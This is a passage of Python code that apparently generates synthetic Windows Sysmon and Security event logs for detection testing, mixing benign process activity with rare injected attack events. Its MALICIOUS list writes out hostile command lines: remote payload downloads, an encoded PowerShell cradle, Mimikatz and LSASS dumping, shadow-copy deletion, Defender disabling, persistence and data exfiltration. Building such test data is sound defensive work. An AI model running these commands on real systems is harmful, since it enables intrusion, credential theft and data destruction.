    (1, "node", lambda i, u: "\"C:\\Program Files\\nodejs\\node.exe\" %s" % choice(["C:\\Users\\%s\\source\\repos\\web\\node_modules\\vite\\bin\\vite.js" % u, "--max-old-space-size=4096 node_modules/.bin/tsc --noEmit"]), "cmd", None, "user", "Medium"),
    (1, "python", lambda i, u: "\"%s\" %s" % (i, choice(["-m pytest -q", "manage.py runserver", "-m pip install -r requirements.txt", "scripts\\report.py --month 2026-11"])), "cmd", None, "user", "Medium"),
    (1, "powershell", lambda i, u: "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -NonInteractive -ExecutionPolicy Bypass -File \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\%s_%s.ps1\"" % (uuid4(), uuid4()), "agentexecutor", None, "system", "System"),
    (1, "agentexecutor", lambda i, u: "\"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\agentexecutor.exe\" -powershell \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\%s.ps1\" \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Results\\%s.output\" \"C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" 0" % (uuid4(), uuid4()), "ime", None, "system", "System"),
    (1, "powershell", lambda i, u: "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ", "explorer", None, "user", "Medium"),
    (1.5, "teams", lambda i, u: "\"%s\" msteams:system-initiated" % i, "explorer", None, "user", "Medium"),
    (1, "outlook", lambda i, u: "\"%s\" " % i, "explorer", None, "user", "Medium"),
    (0.8, "winword", lambda i, u: "\"%s\" /n \"C:\\Users\\%s\\OneDrive - Acme Corp\\Documents\\%s\" /o \"\"" % (i, u, choice(DOCS)), "explorer", None, "user", "Medium"),
    (0.8, "excel", lambda i, u: "\"%s\" \"C:\\Users\\%s\\OneDrive - Acme Corp\\Documents\\%s\"" % (i, u, choice(DOCS)), "outlook", None, "user", "Medium"),
    (0.5, "onedrive", lambda i, u: "\"%s\" /background" % i, "explorer", None, "user", "Medium"),
    (0.8, "code", lambda i, u: "\"%s\" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --dns-result-order=ipv4first --inspect-port=0 --field-trial-handle=%d,i,%d,%d,262144 --mojo-platform-channel-handle=%d /prefetch:8" % (i, randrange(1000, 9999), randrange(10 ** 15, 10 ** 16), randrange(10 ** 15, 10 ** 16), randrange(1000, 9999)), "code", None, "user", "Medium"),
    (0.5, "slack", lambda i, u: "\"%s\" --type=renderer --user-data-dir=\"C:\\Users\\%s\\AppData\\Roaming\\Slack\" --standard-schemes=app,slack-webapp-dev --enable-sandbox --lang=en-US --renderer-client-id=%d --mojo-platform-channel-handle=%d /prefetch:1" % (i, u, randrange(4, 40), randrange(1000, 9999)), "slack", None, "user", "Low"),
    (0.3, "zoom", lambda i, u: "\"%s\" \"--action=join&confno=%d\"" % (i, randrange(10 ** 9, 10 ** 10)), "chrome", None, "user", "Medium"),
    (0.3, "notepad", lambda i, u: "\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\%s\\Desktop\\notes.txt" % u, "explorer", None, "user", "Medium"),
    (0.3, "acrobat", lambda i, u: "\"%s\" \"C:\\Users\\%s\\Downloads\\Invoice_%d.pdf\"" % (i, u, randrange(10000, 99999)), "explorer", None, "user", "Medium"),
    (0.5, "googleupdate", lambda i, u: "\"%s\" /ua /installsource scheduler" % i, "svchost", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "system", "System"),
    (0.5, "edgeupdate", lambda i, u: "\"%s\" /ua /installsource scheduler" % i, "svchost", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "system", "System"),
    (0.3, "c2r", lambda i, u: "\"%s\" /frequentupdate SCHEDULEDTASK displaylevel=False" % i, "svchost", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "system", "System"),
    (0.3, "java", lambda i, u: "\"%s\" -Xms512m -Xmx2g -Dcatalina.base=\"C:\\tomcat\" -Djava.io.tmpdir=\"C:\\tomcat\\temp\" -classpath \"C:\\tomcat\\bin\\bootstrap.jar;C:\\tomcat\\bin\\tomcat-juli.jar\" org.apache.catalina.startup.Bootstrap start" % i, "services", "C:\\Windows\\system32\\services.exe", "system", "System"),
    (0.3, "w3wp", lambda i, u: "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\" -l \"webengine4.dll\" -a \\\\.\\pipe\\iisipm%s -h \"C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config\" -w \"\" -m 0 -t 20 -ta 0" % uuid4(), "svchost", "C:\\Windows\\system32\\svchost.exe -k iissvcs", "iis", "System"),
    (0.3, "mstsc", lambda i, u: "\"C:\\Windows\\system32\\mstsc.exe\" /v:SRV-APP%02d.corp.acme.local" % randrange(1, 30), "explorer", None, "user", "Medium"),
    (0.3, "mmc", lambda i, u: "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\%s\"" % choice(["eventvwr.msc", "services.msc", "compmgmt.msc", "dsa.msc"]), "explorer", None, "user", "High"),
    # ordinary admin and scripting activity some rules are noisy about
    (0.3, "ipconfig", lambda i, u: choice(["ipconfig /all", "ipconfig /flushdns", "ipconfig"]), "cmd", None, "user", "Medium"),
    (0.2, "net", lambda i, u: choice(["net use", "net use Z: \\\\fs01.corp.acme.local\\shared /persistent:yes", "net time \\\\dc01"]), "cmd", None, "user", "Medium"),
    (0.2, "reg", lambda i, u: "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\" /v ProductName", "cmd", None, "user", "Medium"),
    (0.2, "tasklist", lambda i, u: "tasklist /fi \"imagename eq chrome.exe\"", "cmd", None, "user", "Medium"),
    (0.2, "schtasks", lambda i, u: "schtasks /query /fo LIST /v", "cmd", None, "user", "High"),
    (0.2, "sc", lambda i, u: "sc query wuauserv", "cmd", None, "user", "High"),
    (0.1, "netsh", lambda i, u: "netsh wlan show interfaces", "cmd", None, "user", "Medium"),
]

# Attack behaviour, the kind SigmaHQ's process_creation rules exist for.
MALICIOUS = [
    ("certutil", "certutil.exe -urlcache -split -f http://185.220.101.47/payload.exe C:\\Users\\Public\\payload.exe", "cmd"),
    ("certutil", "certutil -decode C:\\Users\\Public\\enc.txt C:\\Users\\Public\\run.exe", "cmd"),
    ("vssadmin", "vssadmin.exe delete shadows /all /quiet", "cmd"),
    ("wmic", "wmic shadowcopy delete", "cmd"),
    ("bcdedit", "bcdedit /set {default} recoveryenabled No", "cmd"),
    ("wevtutil", "wevtutil cl Security", "cmd"),
    ("powershell", "powershell.exe -NoP -sta -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA4ADUALgAyADIAMAAuADEAMAAxAC4ANAA3AC8AYQAnACkA", "winword"),
    ("powershell", "powershell -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds\"", "cmd"),
    ("powershell", "powershell.exe -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"", "cmd"),
    ("powershell", "powershell.exe -c \"Add-MpPreference -ExclusionPath C:\\Users\\Public\"", "cmd"),
    ("rundll32", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\lsass.dmp full", "cmd"),
    ("procdump", "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\ls.dmp", "cmd"),
    ("mimikatz", "m.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", "cmd"),
    ("reg", "reg save HKLM\\SAM C:\\Users\\Public\\sam.save", "cmd"),
    ("reg", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d \"C:\\Users\\Public\\upd.exe\" /f", "cmd"),
    ("reg", "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f", "cmd"),
    ("schtasks", "schtasks /create /sc minute /mo 30 /tn \"MicrosoftEdgeUpdateTaskCore\" /tr \"C:\\Users\\Public\\upd.exe\" /ru SYSTEM /f", "cmd"),
    ("mshta", "mshta.exe http://185.220.101.47/index.hta", "explorer"),
    ("mshta", "mshta vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell -nop -w hidden -c iex(iwr http://185.220.101.47/a)\"\":close\")", "outlook"),
    ("regsvr32", "regsvr32.exe /s /n /u /i:http://185.220.101.47/file.sct scrobj.dll", "cmd"),
    ("bitsadmin", "bitsadmin /transfer myjob /download /priority high http://185.220.101.47/a.exe C:\\Users\\Public\\a.exe", "cmd"),
    ("whoami", "whoami /priv", "cmd"),
    ("whoami", "whoami /all", "w3wp"),
    ("net", "net user backup P@ssw0rd123! /add", "cmd"),
    ("net", "net localgroup administrators backup /add", "cmd"),
    ("net", "net group \"Domain Admins\" /domain", "cmd"),
    ("nltest", "nltest /domain_trusts /all_trusts", "cmd"),
    ("adfind", "AdFind.exe -f \"(objectcategory=person)\" > ad_users.txt", "cmd"),
    ("cmd", "cmd.exe /c whoami & hostname & ipconfig /all", "w3wp"),
    ("cmd", "cmd.exe /c ping -n 1 185.220.101.47 && echo ok", "sqlservr"),
    ("netsh", "netsh advfirewall set allprofiles state off", "cmd"),
    ("netsh", "netsh advfirewall firewall add rule name=\"RDP\" dir=in action=allow protocol=TCP localport=3389", "cmd"),
    ("sc", "sc config WinDefend start= disabled", "cmd"),
    ("wmic", "wmic /node:10.10.4.21 process call create \"cmd.exe /c C:\\Users\\Public\\a.exe\"", "cmd"),
    ("rclone", "svchost.exe copy C:\\Shares\\Finance remote:exfil --transfers 16 --no-check-certificate", "cmd"),
    ("curl", "curl.exe -k -o C:\\Users\\Public\\b.exe https://temp.sh/AbCdE/b.exe", "cmd"),
    ("powershell", "powershell.exe -WindowStyle Hidden -c \"Invoke-WebRequest -Uri https://pastebin.com/raw/x8YhQ2Lm -OutFile $env:TEMP\\s.ps1; & $env:TEMP\\s.ps1\"", "excel"),
    ("cmd", "cmd /c copy \\\\tsclient\\c\\tools\\nc.exe C:\\Windows\\Temp\\nc.exe", "explorer"),
    ("psexesvc", "C:\\Windows\\PSEXESVC.exe", "services"),
]

BENIGN_W = Weighted([(b, b[0]) for b in BENIGN])


class Host:
    __slots__ = ("name", "user", "sid", "logon_id", "logon_guid", "guid_prefix", "ip", "pids", "record", "domain_sid", "server")


def make_hosts():
    hosts = []
    dom_sid = "S-1-5-21-3623811015-3361044348-30300820"
    for i in range(250):
        h = Host()
        h.server = i < 25
        if h.server:
            h.name = "%s%02d.corp.acme.local" % (choice(["SRV-APP", "SRV-SQL", "SRV-FS", "SRV-WEB", "DC"]), i)
        else:
            h.name = "%s-%04d.corp.acme.local" % (choice(["WS-FIN", "WS-ENG", "WS-HR", "WS-SALES", "LT-ENG", "LT-EXEC"]), randrange(10000))
        h.user = choice(WIN_USERS)
        h.domain_sid = dom_sid
        h.sid = "%s-%d" % (dom_sid, randrange(1100, 9000))
        h.logon_id = "0x%x" % randrange(0x30000, 0x9ffffff)
        h.guid_prefix = "%08X" % getrandbits(32)
        h.logon_guid = "%s-%04X-%04X-%04X-%012X" % (h.guid_prefix, getrandbits(16), getrandbits(16), getrandbits(16), getrandbits(48))
        h.ip = "10.%d.%d.%d" % (randrange(1, 40), randrange(256), randrange(2, 250))
        h.pids = [randrange(400, 30000) for _ in range(30)]
        h.record = randrange(10 ** 4, 10 ** 7)
        hosts.append(h)
    return hosts


HOSTS = []
EXT_IPS = []
DOMAINS = ["www.google.com", "login.microsoftonline.com", "outlook.office365.com", "teams.microsoft.com", "graph.microsoft.com",
           "github.com", "api.github.com", "slack.com", "wss-primary.slack.com", "zoom.us", "settings-win.data.microsoft.com",
           "v10.events.data.microsoft.com", "clients2.google.com", "update.googleapis.com", "acme.sharepoint.com",
           "acme-my.sharepoint.com", "ctldl.windowsupdate.com", "fs01.corp.acme.local", "dc01.corp.acme.local",
           "wpad.corp.acme.local", "ocsp.digicert.com", "edge.microsoft.com", "browser.events.data.msn.com", "pypi.org",
           "registry.npmjs.org", "objects.githubusercontent.com", "s3.amazonaws.com", "d2k5nsl2zxldvw.cloudfront.net"]
BAD_DOMAINS = ["pastebin.com", "raw.githubusercontent.com", "temp.sh", "transfer.sh", "ngrok-free.app", "api.telegram.org",
               "anydesk.com", "portmap.io", "xmr.pool.minergate.com", "4hbdq2v7rjxh.onion.ws"]
DLLS = ["ntdll.dll", "kernel32.dll", "KernelBase.dll", "user32.dll", "advapi32.dll", "combase.dll", "ole32.dll", "rpcrt4.dll",
        "crypt32.dll", "bcrypt.dll", "ws2_32.dll", "winhttp.dll", "wininet.dll", "dnsapi.dll", "secur32.dll", "shell32.dll",
        "clr.dll", "amsi.dll", "dbghelp.dll", "wldp.dll", "uxtheme.dll", "dwmapi.dll", "mswsock.dll", "iphlpapi.dll"]


class Win:
    def __init__(self, clock):
        self.clock = clock

    def guid(self, h):
        return "%s-%04X-%04X-%04X-%012X" % (h.guid_prefix, getrandbits(16), getrandbits(16), getrandbits(16), getrandbits(48))

    def system(self, h, provider, eid, version, level, task, opcode, keywords, channel, pid, tid, security):
        c = self.clock
        h.record += 1
        return {"Provider": provider, "EventID": eid, "Version": version, "Level": level, "Task": task, "Opcode": opcode,
                "Keywords": keywords, "TimeCreated": {"#attributes": {"SystemTime": c.iso + c.frac(6) + "Z"}},
                "EventRecordID": h.record, "Correlation": None,
                "Execution": {"#attributes": {"ProcessID": pid, "ThreadID": tid}}, "Channel": channel,
                "Computer": h.name, "Security": security}

    def sysmon(self, h, eid, version, data, event_type=None):
        d = {"RuleName": "-"}
        if event_type:
            d["EventType"] = event_type
        d["UtcTime"] = self.clock.day + self.clock.frac(3)
        d.update(data)
        return {"Event": {"#attributes": XMLNS,
                          "System": self.system(h, SYSMON_PROVIDER, eid, version, 4, eid, 0, "0x8000000000000000", SYSMON_CH,
                                                3208, 1724 + (h.record & 7) * 4, {"#attributes": {"UserID": "S-1-5-18"}}),
                          "EventData": d}}

    def user_of(self, h, kind):
        if kind == "system":
            return "NT AUTHORITY\\SYSTEM"
        if kind == "netsvc":
            return choice(["NT AUTHORITY\\NETWORK SERVICE", "NT AUTHORITY\\LOCAL SERVICE"])
        if kind == "iis":
            return "IIS APPPOOL\\DefaultAppPool"
        return "%s\\%s" % (WIN_DOMAIN, h.user)

    def process_creation(self, h):
        if rand() < 0.004:
            key, cl, parent = choice(MALICIOUS)
            pcl = None
            kind, integ = ("system", "System") if parent in ("services", "sqlservr", "w3wp") else ("user", "High")
        else:
            _, key, clf, parent, pcl, kind, integ = BENIGN_W.pick()
            cl = None
        meta = IMG[key]
        img = u_path(meta["Image"], h.user)
        if cl is None:
            cl = clf(img, h.user)
        pmeta = IMG[parent]
        pimg = u_path(pmeta["Image"], h.user)
        if pcl is None:
            pcl = q(pimg) if parent not in ("cmd",) else "\"C:\\Windows\\system32\\cmd.exe\" "
        user = self.user_of(h, kind)
        d = {"ProcessGuid": self.guid(h), "ProcessId": choice(h.pids) + randrange(4), "Image": img,
             "FileVersion": meta["FileVersion"], "Description": meta["Description"], "Product": meta["Product"],
             "Company": meta["Company"], "OriginalFileName": meta["OriginalFileName"], "CommandLine": cl,
             "CurrentDirectory": "C:\\Windows\\system32\\" if kind != "user" else "C:\\Users\\%s\\" % h.user,
             "User": user, "LogonGuid": h.logon_guid if kind == "user" else "%s-0000-0000-E703-000000000000" % h.guid_prefix,
             "LogonId": h.logon_id if kind == "user" else "0x3e7", "TerminalSessionId": 1 if kind == "user" else 0,
             "IntegrityLevel": integ, "Hashes": meta["Hashes"], "ParentProcessGuid": self.guid(h),
             "ParentProcessId": choice(h.pids), "ParentImage": pimg, "ParentCommandLine": pcl,
             "ParentUser": user if parent not in ("services", "svchost", "winlogon") else "NT AUTHORITY\\SYSTEM"}
        return self.sysmon(h, 1, 5, d)

    def running_image(self, h):
        _, key, _, _, _, kind, _ = BENIGN_W.pick()
        return u_path(IMG[key]["Image"], h.user), kind

    def network(self, h):
        img, kind = self.running_image(h)
        dport = choice([443] * 12 + [80, 53, 445, 389, 88, 135, 3389, 5985])
        out = dport not in (3389, 5985) or rand() < .5
        dst = choice(EXT_IPS) if dport in (443, 80) else "10.0.%d.%d" % (randrange(4), randrange(2, 60))
        if rand() < 0.003:
            img, dport, dst = choice([("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", 4444, "185.220.101.47"),
                                      ("C:\\Windows\\System32\\rundll32.exe", 443, "45.155.205.233"),
                                      ("C:\\Windows\\System32\\mshta.exe", 80, "185.220.101.47"),
                                      ("C:\\Windows\\System32\\certutil.exe", 80, "185.220.101.47")])
        d = {"ProcessGuid": self.guid(h), "ProcessId": choice(h.pids), "Image": img, "User": self.user_of(h, kind),
             "Protocol": "udp" if dport == 53 else "tcp", "Initiated": "true" if out else "false", "SourceIsIpv6": "false",
             "SourceIp": h.ip, "SourceHostname": h.name, "SourcePort": randrange(49152, 65535), "SourcePortName": "-",
             "DestinationIsIpv6": "false", "DestinationIp": dst, "DestinationHostname": "-" if rand() < .4 else choice(DOMAINS),
             "DestinationPort": dport, "DestinationPortName": {443: "https", 80: "http", 53: "domain", 445: "microsoft-ds", 389: "ldap", 88: "kerberos", 135: "epmap", 3389: "ms-wbt-server"}.get(dport, "-")}
        return self.sysmon(h, 3, 5, d)

    def terminate(self, h):
        img, kind = self.running_image(h)
        return self.sysmon(h, 5, 3, {"ProcessGuid": self.guid(h), "ProcessId": choice(h.pids), "Image": img, "User": self.user_of(h, kind)})

    def image_load(self, h):
        img, kind = self.running_image(h)
        dll = choice(DLLS)
        loaded = ("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\" if dll == "clr.dll" else S32) + dll
        if rand() < 0.003:
            img, loaded = choice([("C:\\Windows\\System32\\rundll32.exe", "C:\\Users\\Public\\Downloads\\update.dll"),
                                  ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "C:\\Windows\\System32\\vbe7.dll"),
                                  ("C:\\Users\\Public\\m.exe", "C:\\Windows\\System32\\samlib.dll"),
                                  ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\System32\\dbghelp.dll")])
        hsh = hashlib.md5(loaded.encode()).hexdigest().upper()
        d = {"ProcessGuid": self.guid(h), "ProcessId": choice(h.pids), "Image": img, "ImageLoaded": loaded,
             "FileVersion": MS[2], "Description": dll, "Product": MS[1], "Company": MS[0], "OriginalFileName": dll,
             "Hashes": "MD5=%s,SHA256=%s%s,IMPHASH=%s" % (hsh, hsh, hsh, hsh), "Signed": "true", "Signature": "Microsoft Windows",
             "SignatureStatus": "Valid", "User": self.user_of(h, kind)}
        return self.sysmon(h, 7, 3, d)

    def process_access(self, h):
        src, kind = self.running_image(h)
        tgt = choice(["C:\\Windows\\system32\\svchost.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                      "C:\\Windows\\system32\\lsass.exe", "C:\\Windows\\Explorer.EXE", "C:\\Windows\\system32\\csrss.exe"])
        access = choice(["0x1000", "0x1400", "0x1410", "0x101000", "0x3000"])
        trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9f544|C:\\Windows\\System32\\KERNELBASE.dll+2b8fe|%s+%x|C:\\Windows\\System32\\KERNEL32.DLL+17614|C:\\Windows\\SYSTEM32\\ntdll.dll+526f1" % (src, randrange(1 << 20))
        if rand() < 0.01:
            src, tgt, access = choice([("C:\\Users\\Public\\procdump64.exe", "C:\\Windows\\system32\\lsass.exe", "0x1fffff"),
                                       ("C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\system32\\lsass.exe", "0x1010"),
                                       ("C:\\Users\\Public\\m.exe", "C:\\Windows\\system32\\lsass.exe", "0x1010")])
            trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9f544|C:\\Windows\\System32\\KERNELBASE.dll+2b8fe|C:\\Windows\\System32\\dbgcore.DLL+1b230|UNKNOWN(00007FF8A1B2C3D4)"
        d = {"SourceProcessGUID": self.guid(h), "SourceProcessId": choice(h.pids), "SourceThreadId": randrange(1000, 20000),
             "SourceImage": src, "TargetProcessGUID": self.guid(h), "TargetProcessId": choice(h.pids), "TargetImage": tgt,
             "GrantedAccess": access, "CallTrace": trace, "SourceUser": self.user_of(h, kind), "TargetUser": "NT AUTHORITY\\SYSTEM"}
        return self.sysmon(h, 10, 3, d)

    def file_create(self, h):
        img, kind = self.running_image(h)
        u = h.user
        tf = choice(["C:\\Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_%06x" % (u, randrange(1 << 24)),
                     "C:\\Users\\%s\\AppData\\Local\\Temp\\%s.tmp" % (u, uuid4()),
                     "C:\\Windows\\Prefetch\\%s-%08X.pf" % (img.rsplit("\\", 1)[1].upper(), getrandbits(32)),
                     "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Code Cache\\js\\%s_0" % (u, hexid(16)),
                     "C:\\Users\\%s\\OneDrive - Acme Corp\\Documents\\%s" % (u, choice(DOCS)),
                     "C:\\Users\\%s\\Downloads\\%s" % (u, choice(["Invoice_%d.pdf" % randrange(10000, 99999), "setup.msi", "report.zip"])),
                     "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\CacheManager\\%s.bin" % hexid(8),
                     "C:\\Windows\\SoftwareDistribution\\Download\\%s" % hexid(32)])
        if rand() < 0.01:
            tf = choice(["C:\\Users\\%s\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.lnk" % u,
                         "C:\\Users\\Public\\payload.exe", "C:\\Windows\\Temp\\nc.exe", "C:\\Users\\Public\\lsass.dmp",
                         "C:\\Users\\%s\\AppData\\Local\\Temp\\s.ps1" % u, "C:\\Windows\\System32\\Tasks\\MicrosoftEdgeUpdateTaskCore",
                         "C:\\Users\\%s\\Desktop\\README_DECRYPT.txt" % u])
        d = {"ProcessGuid": self.guid(h), "ProcessId": choice(h.pids), "Image": img, "TargetFilename": tf,
             "CreationUtcTime": self.clock.day + self.clock.frac(3), "User": self.user_of(h, kind)}
        return self.sysmon(h, 11, 2, d)

    def registry(self, h):
        img, kind = self.running_image(h)
        sid = h.sid
        tobj = choice(["HKU\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count\\HRZR_PGYFRFFVBA" % sid,
                       "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\%s\\\\Device\\HarddiskVolume3\\Windows\\System32\\svchost.exe" % sid,
                       "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated",
                       "HKU\\%s\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities\\%s\\Settings\\1272\\{00000000-0000-0000-0000-000000000000}\\PendingChanges" % (sid, hexid(32)),
                       "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Publishers\\{%s}\\Enabled" % uuid4(),
                       "HKU\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\CloudStore\\Store\\DefaultAccount\\Current\\default$windows.data.bluelightreduction.bluelightreductionstate\\windows.data.bluelightreduction.bluelightreductionstate\\Data" % sid,
                       "HKLM\\SYSTEM\\ControlSet001\\Services\\W32Time\\Config\\LastKnownGoodTime"])
        details = choice(["DWORD (0x00000001)", "DWORD (0x00000000)", "Binary Data", "QWORD (0x01db43a1-0x5c2f9e10)"])
        etype = "SetValue"
        eid = 13
        if rand() < 0.2:
            eid = 12
            etype = choice(["CreateKey", "DeleteKey", "DeleteValue"])
        if rand() < 0.01:
            eid, etype = 13, "SetValue"
            tobj, details = choice([("HKU\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater" % sid, "C:\\Users\\Public\\upd.exe"),
                                    ("HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "DWORD (0x00000001)"),
                                    ("HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections", "DWORD (0x00000000)"),
                                    ("HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\DisableRestrictedAdmin", "DWORD (0x00000000)"),
                                    ("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger", "C:\\Windows\\System32\\cmd.exe"),
                                    ("HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential", "DWORD (0x00000001)")])
        d = {"ProcessGuid": self.guid(h), "ProcessId": choice(h.pids), "Image": img, "TargetObject": tobj}
        if eid == 13:
            d["Details"] = details
        d["User"] = self.user_of(h, kind)
        return self.sysmon(h, eid, 2, d, etype)

    def dns(self, h):
        img, kind = self.running_image(h)
        qn = choice(DOMAINS)
        if rand() < 0.005:
            qn = choice(BAD_DOMAINS)
            img = choice(["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\System32\\rundll32.exe", img])
        res = ";".join("::ffff:%s" % choice(EXT_IPS) for _ in range(randrange(1, 4))) + ";"
        if rand() < .3:
            res = "type:  5 %s.edgekey.net;" % qn.split(".")[0] + res
        d = {"ProcessGuid": self.guid(h), "ProcessId": choice(h.pids), "QueryName": qn, "QueryStatus": "0", "QueryResults": res,
             "Image": img, "User": self.user_of(h, kind)}
        return self.sysmon(h, 22, 5, d)

    def file_delete(self, h):
        img, kind = self.running_image(h)
        tf = "C:\\Users\\%s\\AppData\\Local\\Temp\\%s.tmp" % (h.user, uuid4())
        d = {"ProcessGuid": self.guid(h), "ProcessId": choice(h.pids), "User": self.user_of(h, kind), "Image": img, "TargetFilename": tf,
             "Hashes": "SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=00000000000000000000000000000000" % (hexid(40).upper(), hexid(32).upper(), hexid(64).upper()),
             "IsExecutable": "false", "Archived": "true"}
        return self.sysmon(h, 23, 5, d)

    def security(self, h, eid, data, task, keywords="0x8020000000000000", version=2):
        sys_ = self.system(h, SECURITY_PROVIDER, eid, version, 0, task, 0, keywords, "Security", 712, randrange(700, 9000), None)
        sys_["Correlation"] = {"#attributes": {"ActivityID": "%s-%04X-0001-%04X-%012X" % ("%08X" % getrandbits(32), getrandbits(16), getrandbits(16), getrandbits(48))}}
        return {"Event": {"#attributes": XMLNS, "System": sys_, "EventData": data}}

    def logon(self, h, failed=False):
        lt = choice([2, 3, 3, 3, 3, 5, 5, 7, 10, 11])
        user = choice([h.user, h.user, "SVC_BACKUP", "SVC_SQL", h.name.split(".")[0] + "$", "ANONYMOUS LOGON"])
        pkg = "Kerberos" if lt in (2, 3, 10) and rand() < .7 else "NTLM" if lt == 3 else "Negotiate"
        src = choice(["10.%d.%d.%d" % (randrange(1, 40), randrange(256), randrange(2, 250)), "-", "127.0.0.1"]) if lt != 5 else "-"
        if failed:
            if rand() < .3:
                src = choice(EXT_IPS)
                user = choice(["administrator", "admin", "test", "user", "guest", "sa", "backup"])
            d = {"SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
                 "TargetUserSid": "S-1-0-0", "TargetUserName": user, "TargetDomainName": WIN_DOMAIN,
                 "Status": "0xc000006d", "FailureReason": "%%2313", "SubStatus": choice(["0xc000006a", "0xc0000064", "0xc0000072"]),
                 "LogonType": 3 if lt != 10 else 10, "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM",
                 "WorkstationName": choice(["-", "WORKSTATION", "kali"]), "TransmittedServices": "-", "LmPackageName": "-",
                 "KeyLength": 0, "ProcessId": "0x0", "ProcessName": "-", "IpAddress": src, "IpPort": str(randrange(1024, 65535)) if src != "-" else "-"}
            return self.security(h, 4625, d, 12544, "0x8010000000000000", 0)
        d = {"SubjectUserSid": "S-1-5-18", "SubjectUserName": h.name.split(".")[0] + "$", "SubjectDomainName": WIN_DOMAIN,
             "SubjectLogonId": "0x3e7", "TargetUserSid": h.sid if user == h.user else "%s-%d" % (h.domain_sid, randrange(1100, 9000)),
             "TargetUserName": user, "TargetDomainName": WIN_DOMAIN, "TargetLogonId": "0x%x" % randrange(0x30000, 0x9ffffff),
             "LogonType": lt, "LogonProcessName": "Kerberos" if pkg == "Kerberos" else "NtLmSsp " if pkg == "NTLM" else "Advapi  ",
             "AuthenticationPackageName": pkg, "WorkstationName": "-" if pkg == "Kerberos" else h.name.split(".")[0],
             "LogonGuid": "{%s}" % uuid4().upper() if pkg == "Kerberos" else "{00000000-0000-0000-0000-000000000000}",
             "TransmittedServices": "-", "LmPackageName": "NTLM V2" if pkg == "NTLM" else "-", "KeyLength": 128 if pkg == "NTLM" else 0,
             "ProcessId": "0x2c8" if lt != 3 else "0x0", "ProcessName": "C:\\Windows\\System32\\lsass.exe" if lt != 3 else "-",
             "IpAddress": src, "IpPort": str(randrange(1024, 65535)) if src not in ("-",) else "-",
             "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-", "RemoteCredentialGuard": "-", "TargetOutboundUserName": "-",
